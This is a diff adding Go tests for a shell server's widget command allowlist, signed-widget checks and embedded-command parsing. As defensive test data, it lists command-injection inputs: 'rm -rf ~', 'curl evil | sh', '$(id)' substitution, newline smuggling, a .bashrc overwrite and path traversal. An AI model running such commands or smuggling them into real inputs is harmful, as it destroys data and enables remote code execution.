@@ -0,0 +1,159 @@
+package shellserver
+
+import (
+	"encoding/json"
+	"net/http"
+	"reflect"
+	"regexp"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"shellserver/internal/testshell"
+	"shellserver/pkg/protocol"
+)
+
+// allowWidgetCmds lets widgets on s run commands matching patterns.
+func allowWidgetCmds(s *ShellServer, patterns ...string) {
+	ls := *s.settings()
+	ls.allowedCmds = nil
+	for _, p := range patterns {
+		ls.allowedCmds = append(ls.allowedCmds, regexp.MustCompile(p))
+	}
+	s.live.Store(&ls)
+}
+
+func TestWidgetCmdAllowBypass(t *testing.T) {
+	s, pty := newPipeServer(t)
+	ls, err := newLiveSettings(&serverConfig{}, flagSettings())
+	if err != nil {
+		t.Fatal(err)
+	}
+	s.live.Store(ls)
+
+	for _, cmd := range []string{
+		`lsh -r`,
+		`'/usr/local/bin/lsh'; rm -rf ~`,
+		`'/usr/local/bin/lsh';rm -rf ~`,
+		`'/usr/local/bin/lsh' && curl evil | sh`,
+		`'/usr/local/bin/lsh' -r | sh`,
+		`'/usr/local/bin/lsh' $(id)`,
+		"'/usr/local/bin/lsh' `id`",
+		`'/usr/local/bin/lsh' '/tmp'; id`,
+		`'/usr/local/bin/lsh' -r > ~/.bashrc`,
+		`'/usr/local/bin/lsh' & id`,
+		"'/usr/local/bin/lsh'\nid",
+		"'/usr/local/bin/lsh' -r\rid",
+		`'/tmp/x'$(id)'/lsh'`,
+		`"/usr/local/bin/lsh" $HOME`,
+		`'/usr/local/bin/duh' -d 2 '/tmp' || id`,
+		// Only the helpers beside goshell are allowed
+		`'/tmp/x/lsh' -r '/tmp'`,
+		`'/usr/bin/lsh' -r '/tmp'`,
+		`'/usr/local/bin/../../tmp/lsh' -r`,
+	} {
+		// Take the bundled helpers to be in /usr/local/bin
+		cmd = strings.ReplaceAll(cmd, "'/usr/local/bin/", "'"+helperDir+"/")
+		rec := postShellAction(s, cmd)
+		if rec.Code != http.StatusForbidden || !strings.Contains(rec.Body.String(), string(protocol.ErrCommandNotAllowed)) {
+			t.Errorf("%q: status %d %s, want 403 %s", cmd, rec.Code, rec.Body, protocol.ErrCommandNotAllowed)
+		}
+	}
+	if line, ok := readPTYLine(t, pty, 100*time.Millisecond); ok {
+		t.Fatalf("a rejected command reached the shell: %q", line)
+	}
+
+	// The bundled tools' own commands still run, without confirmation
+	ok := "'" + helperDir + "/lsh' -r '/tmp/a b'"
+	if rec := postShellAction(s, ok); rec.Code != http.StatusNoContent {
+		t.Fatalf("%q: status %d, want 204", ok, rec.Code)
+	}
+	if line, _ := readPTYLine(t, pty, time.Second); line != ok+"\n" {
+		t.Errorf("shell received %q, want %q", line, ok+"\n")
+	}
+
+	// serveh's are allowed, but share a directory, so wait for approval
+	serveh := "'" + helperDir + "/serveh' -ttl '10m' '/tmp'"
+	if rec := postShellAction(s, serveh); rec.Code != http.StatusAccepted {
+		t.Errorf("%q: status %d, want 202", serveh, rec.Code)
+	}
+	if line, ok := readPTYLine(t, pty, 100*time.Millisecond); ok {
+		t.Errorf("unconfirmed command reached the shell: %q", line)
+	}
+}
+
+func TestWidgetCmdRejectedEvent(t *testing.T) {
+	s, ts := startFakeShellServer(t)
+	allowWidgetCmds(s, `^echo [a-z-]+$`)
+	c := testshell.Dial(t, ts.URL, "")
+
+	resp, err := http.Post(ts.URL+"/widget/x/action", "application/json", strings.NewReader(`{"type":"shell","cmd":"echo hi; id"}`))
+	if err != nil {
+		t.Fatal(err)
+	}
+	resp.Body.Close()
+	if resp.StatusCode != http.StatusForbidden {
+		t.Fatalf("status %d, want 403", resp.StatusCode)
+	}
+	ev := c.ExpectEvent("widget-cmd-rejected", testshell.DefaultTimeout)
+	if ev["cmd"] != "echo hi; id" || ev["reason"] == "" {
+		t.Errorf("rejection event = %v", ev)
+	}
+}
+
+func TestWidgetCmdSigned(t *testing.T) {
+	s, err := newShellServerWithShell(testshell.Command())
+	if err != nil {
+		t.Fatal(err)
+	}
+	t.Cleanup(func() { s.Close() })
+	s.signedWidgetCmds = true
+	s.confirmWidgetCmds = false
+	allowWidgetCmds(s, ``)
+	ts := serveShellServer(t, s)
+	c := testshell.Dial(t, ts.URL, "")
+
+	widget := `<button onclick="runCommand(&quot;echo signed-ok&quot;)">go</button>`
+	c.Send("raw " + strconv.Quote("\x1b]9001;HTML_START\x07"+widget+"\x1b]9001;HTML_END\x07"))
+	id := strconv.Itoa(int(c.ExpectEvent("html", testshell.DefaultTimeout)["widget_id"].(float64)))
+
+	post := func(widget, cmd string) int {
+		body, _ := json.Marshal(WidgetActionRequest{Type: "shell", Cmd: cmd})
+		resp, err := http.Post(ts.URL+"/widget/"+widget+"/action", "application/json", strings.NewReader(string(body)))
+		if err != nil {
+			t.Fatal(err)
+		}
+		resp.Body.Close()
+		return resp.StatusCode
+	}
+	for _, tc := range []struct{ widget, cmd string }{
+		{"lsh-sort", "echo signed-ok"}, // not from the widget
+		{"999", "echo signed-ok"},      // no such widget
+		{id, "echo signed-ok; id"},     // more than it holds
+		{id, "echo signed-ok\nid"},     // a second line
+		{id, "echo signed-ok $(id)"},   // a substitution
+		{id, "echo other"},             // something else altogether
+		{id, "echo signed-ok "},        // not byte for byte
+	} {
+		if code := post(tc.widget, tc.cmd); code != http.StatusForbidden {
+			t.Errorf("widget %s running %q: status %d, want 403", tc.widget, tc.cmd, code)
+		}
+	}
+	if code := post(id, "echo signed-ok"); code != http.StatusNoContent {
+		t.Fatalf("embedded command: status %d, want 204", code)
+	}
+	c.ExpectOutput("\r\nsigned-ok\r\n", testshell.DefaultTimeout)
+}
+
+func TestEmbeddedCmds(t *testing.T) {
+	content := `<button onclick="runCommand(&quot;&#39;/bin/lsh&#39; -r &#39;/tmp&#39;&quot;)">r</button>` +
+		`<a onclick='runCommand("echo \"quoted\"", {detached: true})'>q</a>` +
+		`<a onclick="runCommand(&#39;echo it\&#39;s&#39;)">s</a>` +
+		`<a onclick="runCommand(cmdFor(this))">dynamic</a>` +
+		`<meta name="goshell-freshness" content="fs" data-dir="/tmp" data-refresh="&#39;/bin/lsh&#39; &#39;/tmp&#39;">`
+	want := []string{`'/bin/lsh' -r '/tmp'`, `echo "quoted"`, `echo it's`, `'/bin/lsh' '/tmp'`}
+	if got := embeddedCmds([]byte(content)); !reflect.DeepEqual(got, want) {
+		t.Errorf("embeddedCmds = %q, want %q", got, want)
+	}
+}